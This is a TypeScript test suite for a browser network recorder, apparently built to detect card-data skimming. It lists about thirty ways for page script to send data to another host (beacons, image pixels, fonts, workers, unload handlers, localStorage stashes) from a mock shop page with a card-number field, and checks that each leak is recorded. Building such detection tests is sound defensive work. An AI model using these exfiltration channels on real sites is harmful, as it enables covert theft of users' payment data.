import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openBrowser, type ProbeBrowser } from '../src/index.ts';
import { pageOf, type Run, run } from './support/run.ts';
import { type Site, startSite } from './support/site.ts';

/** Each channel sends a word of its own; the receiving server says whether the word really left the browser. */
interface Channel {
  readonly name: string;
  /** Code of the page, `X` being the receiver's address; `W` the word. */
  readonly code: string;
  readonly resource: string;
  readonly method: string;
  /** `url`: the word is in the address. */
  readonly in: 'body' | 'url';
  readonly target?: string;
  readonly initiator?: string;
}
const CHANNELS: readonly Channel[] = [
  {
    name: 'fetch',
    code: `fetch('X/p', {method: 'POST', body: 'W'})`,
    resource: 'fetch',
    method: 'POST',
    in: 'body',
    initiator: 'script',
  },
  {
    name: 'fetch-json',
    code: `fetch('X/p', {method: 'POST', headers: {'content-type': 'application/json'}, body: '{"v":"W"}'})`,
    resource: 'fetch',
    method: 'POST',
    in: 'body',
    initiator: 'script',
  },
  {
    name: 'xhr',
    code: `const x = new XMLHttpRequest(); x.open('POST', 'X/p'); x.send('W')`,
    resource: 'xhr',
    method: 'POST',
    in: 'body',
    initiator: 'script',
  },
  {
    name: 'beacon',
    code: `navigator.sendBeacon('X/p', 'W')`,
    resource: 'ping',
    method: 'POST',
    in: 'body',
    initiator: 'script',
  },
  {
    name: 'blob',
    code: `fetch('X/p', {method: 'POST', body: new Blob(['W'])})`,
    resource: 'fetch',
    method: 'POST',
    in: 'body',
    initiator: 'script',
  },
  {
    name: 'beacon-blob',
    code: `navigator.sendBeacon('X/p', new Blob(['W']))`,
    resource: 'ping',
    method: 'POST',
    in: 'body',
    initiator: 'script',
  },
  {
    name: 'multipart',
    code: `const f = new FormData(); f.append('a', new File(['W'], 'a.txt')); fetch('X/p', {method: 'POST', body: f})`,
    resource: 'fetch',
    method: 'POST',
    in: 'body',
    initiator: 'script',
  },
  {
    name: 'buffer',
    code: `fetch('X/p', {method: 'POST', body: new TextEncoder().encode('W')})`,
    resource: 'fetch',
    method: 'POST',
    in: 'body',
    initiator: 'script',
  },
  {
    name: 'image',
    code: `new Image().src = 'X/i.png?v=W'`,
    resource: 'image',
    method: 'GET',
    in: 'url',
    initiator: 'script',
  },
  {
    name: 'script-tag',
    code: `const s = document.createElement('script'); s.src = 'X/s.js?W'; document.head.append(s)`,
    resource: 'script',
    method: 'GET',
    in: 'url',
    initiator: 'script',
  },
  {
    name: 'stylesheet',
    code: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'X/c.css?W'; document.head.append(l)`,
    resource: 'stylesheet',
    method: 'GET',
    in: 'url',
  },
  {
    name: 'css-image',
    code: `document.body.style.background = 'url("X/b.png?W")'`,
    resource: 'image',
    method: 'GET',
    in: 'url',
  },
  {
    name: 'font',
    code: `new FontFace('f', 'url(X/f.woff2?W)').load().catch(() => {})`,
    resource: 'font',
    method: 'GET',
    in: 'url',
  },
  {
    name: 'prefetch',
    code: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'X/pre?W'; document.head.append(l)`,
    resource: 'prefetch|fetch',
    method: 'GET',
    in: 'url',
  },
  {
    name: 'eventsource',
    code: `new EventSource('X/es?W')`,
    resource: 'eventsource',
    method: 'GET',
    in: 'url',
  },
  {
    name: 'form',
    code: `const f = document.createElement('form'); f.method = 'post'; f.action = 'X/p'; f.target = 'sink'; f.innerHTML = '<input name=v value=W>'; document.body.append(f); f.submit()`,
    resource: 'document',
    method: 'POST',
    in: 'body',
  },
  {
    name: 'frame',
    code: `const i = document.createElement('iframe'); i.src = 'X/frame?W'; document.body.append(i)`,
    resource: 'document',
    method: 'GET',
    in: 'url',
  },
  {
    name: 'anchor-ping',
    code: `const a = document.createElement('a'); a.href = '#x'; a.ping = 'X/ping?W'; document.body.append(a); a.click()`,
    resource: 'ping',
    method: 'POST',
    in: 'url',
  },
  {
    name: 'worker',
    code: `new Worker(URL.createObjectURL(new Blob(["fetch('X/p', {method: 'POST', body: 'W'})"])))`,
    resource: 'fetch',
    method: 'POST',
    in: 'body',
    target: 'worker',
    initiator: 'script',
  },
  {
    name: 'nested-worker',
    code: `new Worker(URL.createObjectURL(new Blob(["new Worker(URL.createObjectURL(new Blob([\\"fetch('X/p', {method: 'POST', body: 'W'})\\"])))"])))`,
    resource: 'fetch',
    method: 'POST',
    in: 'body',
    target: 'worker',
  },
  {
    name: 'shared-worker',
    code: `new SharedWorker('/shared.js')`,
    resource: 'fetch',
    method: 'POST',
    in: 'body',
    target: 'shared-worker',
    initiator: 'script',
  },
  {
    name: 'service-worker',
    code: `navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => r.active.postMessage('go'))`,
    resource: 'fetch',
    method: 'POST',
    in: 'body',
    target: 'service-worker',
    initiator: 'script',
  },
  {
    name: 'other-process-frame',
    code: `const i = document.createElement('iframe'); i.src = 'X/inner'; document.body.append(i)`,
    resource: 'fetch',
    method: 'POST',
    in: 'body',
    target: 'frame',
    initiator: 'script',
  },
  { name: 'popup', code: `document.title = 'x'`, resource: 'fetch', method: 'POST', in: 'body' },
  {
    name: 'blur',
    code: `document.querySelector('#number').addEventListener('blur', () => navigator.sendBeacon('X/p', 'W'))`,
    resource: 'ping',
    method: 'POST',
    in: 'body',
    initiator: 'script',
  },
  {
    name: 'pagehide-beacon',
    code: `addEventListener('pagehide', () => navigator.sendBeacon('X/p', 'W'))`,
    resource: 'ping',
    method: 'POST',
    in: 'body',
  },
  {
    name: 'unload-beacon',
    code: `addEventListener('unload', () => navigator.sendBeacon('X/p', new Blob(['W'])))`,
    resource: 'ping',
    method: 'POST',
    in: 'body',
  },
  {
    name: 'pagehide-keepalive',
    code: `addEventListener('pagehide', () => fetch('X/p', {method: 'POST', keepalive: true, body: 'W'}))`,
    resource: 'xhr',
    method: 'POST',
    in: 'body',
  },
  {
    name: 'beforeunload',
    code: `addEventListener('beforeunload', () => navigator.sendBeacon('X/p', 'W'))`,
    resource: 'ping',
    method: 'POST',
    in: 'body',
  },
  {
    name: 'hidden',
    code: `document.addEventListener('visibilitychange', () => document.visibilityState === 'hidden' && navigator.sendBeacon('X/p', 'W'))`,
    resource: 'ping',
    method: 'POST',
    in: 'body',
  },
  {
    name: 'fetch-later',
    code: `window.fetchLater ? fetchLater('X/p', {method: 'POST', body: 'W'}) : addEventListener('pagehide', () => navigator.sendBeacon('X/p', 'W'))`,
    resource: 'fetch|xhr|ping|other',
    method: 'POST',
    in: 'body',
  },
  {
    name: 'stash',
    code: `const old = localStorage.getItem('k'); if (old) navigator.sendBeacon('X/p', old); else localStorage.setItem('k', 'W')`,
    resource: 'ping',
    method: 'POST',
    in: 'body',
    initiator: 'script',
  },
];
const wordOf = (channel: Channel): string => `word-${channel.name}-word`;

let browser: ProbeBrowser;
let shop: Site;
let sink: Site;
let seen: Run;

beforeAll(async () => {
  browser = await openBrowser();
  sink = await startSite('127.0.0.22', { '/p': 'ok', '/frame': 'frame', '/pre': 'x', '/c.css': 'p{}' });
  sink.pages['/inner'] =
    `<script>fetch('/p', {method: 'POST', body: 'word-other-process-frame-word'})</script>`;
  sink.pages['/es'] = (_request, response) => {
    response.setHeader('content-type', 'text/event-stream');
    response.write('data: 1\n\n');
  };
  const send = (name: string): string =>
    `fetch('${sink.origin}/p', {method: 'POST', body: 'word-${name}-word'})`;
  shop = await startSite('127.0.0.21', {
    '/shared.js': send('shared-worker'),
    '/sw.js': `onmessage = () => ${send('service-worker').replace("'word", "new Blob(['word").replace("word'}", "word'])}")}`,
    '/pop': `<script>${send('popup')}</script>`,
  });
  const code = CHANNELS.map(
    (channel) =>
      `{ ${channel.code
        .replaceAll('X/', `${sink.origin}/`)
        .replaceAll('W', wordOf(channel))
        .replaceAll(`${wordOf(channel)}orker`, 'Worker')} }`,
  ).join('\n');
  shop.pages['/'] = `<!doctype html><title>wire</title><body><iframe name="sink" width=20 height=20></iframe>
<label>カード番号 <input id="number" autocomplete="cc-number"></label>
<script src="/channels.js"></script>`;
  shop.pages['/channels.js'] = `${code}
const socket = new WebSocket('${sink.origin.replace('http', 'ws')}/socket?hello');
socket.onopen = () => { socket.send('frame-one'); socket.send(new Uint8Array([1, 2, 250])) };
document.querySelector('#number').addEventListener('click', () => window.open('/pop'), { once: true });`;
  seen = await run(browser, pageOf(`${shop.origin}/`));
});
afterAll(async () => {
  await browser.close();
  await shop.close();
  await sink.close();
});

describe.each(CHANNELS.map((channel) => [channel.name, channel] as const))('%s', (_name, channel) => {
  const word = wordOf(channel);
  test('really left the browser', () => {
    expect(sink.received.some((item) => item.url.includes(word) || item.body.includes(word))).toBe(true);
  });
  test('is in the record, whole, and attributed', () => {
    const found = seen.wire.filter(
      (message) =>
        message.method === channel.method &&
        (channel.in === 'url' ? message.url : message.text).includes(word),
    );
    expect(found.length).toBeGreaterThan(0);
    const message = found[0];
    expect(message?.resource).toMatch(new RegExp(`^(${channel.resource})$`));
    if (channel.target) expect(message?.target).toBe(channel.target);
    if (channel.initiator) expect(message?.initiator.kind).toBe(channel.initiator);
    if (channel.initiator === 'script') expect(message?.initiator.stack.length).toBeGreaterThan(0);
  });
});

test('WebSocket: the handshake and every frame sent, text and binary', () => {
  const socket = seen.wire.filter((message) => message.channel === 'websocket');
  const [open] = socket.filter((message) => message.method === 'GET');
  expect(open?.url).toContain('/socket?hello');
  expect(open?.outcome).toMatchObject({ kind: 'response', status: 101 });
  const sent = socket.filter((message) => message.method === 'SEND');
  expect(sent.map((message) => message.text)).toContain('frame-one');
  expect(sent.some((message) => message.body.kind === 'bytes' && message.body.bytes === 3)).toBe(true);
  expect(open?.initiator.stack[0]?.url).toBe(`${shop.origin}/channels.js`);
});

test('what the server received, nobody kept from the record', () => {
  const recorded = new Set(seen.wire.map((message) => message.url));
  for (const item of [...sink.received, ...shop.received]) {
    const origin = sink.received.includes(item) ? sink.origin : shop.origin;
    expect([...recorded]).toContain(`${origin}${item.url}`);
  }
});

test('a popup is no main document, and that it was not looked at is a gap', () => {
  const popup = `${shop.origin}/pop`;
  expect(seen.headers.find((document) => document.url === popup)?.main).toBe(false);
  expect(new Set(seen.headers.filter((document) => document.main).map((document) => document.url))).toEqual(
    new Set([`${shop.origin}/`]),
  );
  for (const name of ['cardFields', 'frames', 'forms'] as const) {
    const artifact = seen.recording.artifacts[name];
    const gaps = artifact.kind === 'observed' ? artifact.gaps : [];
    expect(gaps.filter((gap) => gap.code === 'limit').map((gap) => gap.message.en)).toEqual([
      expect.stringContaining('popup'),
    ]);
  }
});

test('a redirect is two messages, cookies are in the headers', async () => {
  shop.pages['/redirect'] = (_request, response) => {
    response.writeHead(302, { location: `${sink.origin}/p?after`, 'set-cookie': 'kept=1' });
    response.end();
  };
  shop.pages['/r'] = `<script>document.cookie = 'card=in-a-cookie'; new Image().src = '/redirect'</script>`;
  const result = await run(browser, pageOf(`${shop.origin}/r`));
  const hop = result.wire.find((message) => message.url.endsWith('/redirect'));
  expect(hop?.outcome).toMatchObject({ kind: 'response', status: 302 });
  expect(hop?.headers.find(([name]) => name.toLowerCase() === 'cookie')?.[1]).toContain('in-a-cookie');
  expect(result.wire.some((message) => message.url.endsWith('/p?after'))).toBe(true);
});

test('a body too large to keep is unseen, never silently cut', async () => {
  shop.pages['/big'] = `<script>fetch('/p', {method: 'POST', body: 'x'.repeat(11 * 1024 * 1024)})</script>`;
  const result = await run(browser, pageOf(`${shop.origin}/big`));
  expect(result.wire.find((message) => message.url.endsWith('/p'))?.body.kind).toBe('unseen');
  const { wire } = result.recording.artifacts;
  expect(wire.kind === 'observed' && wire.gaps[0]?.code).toBe('body-missing');
});
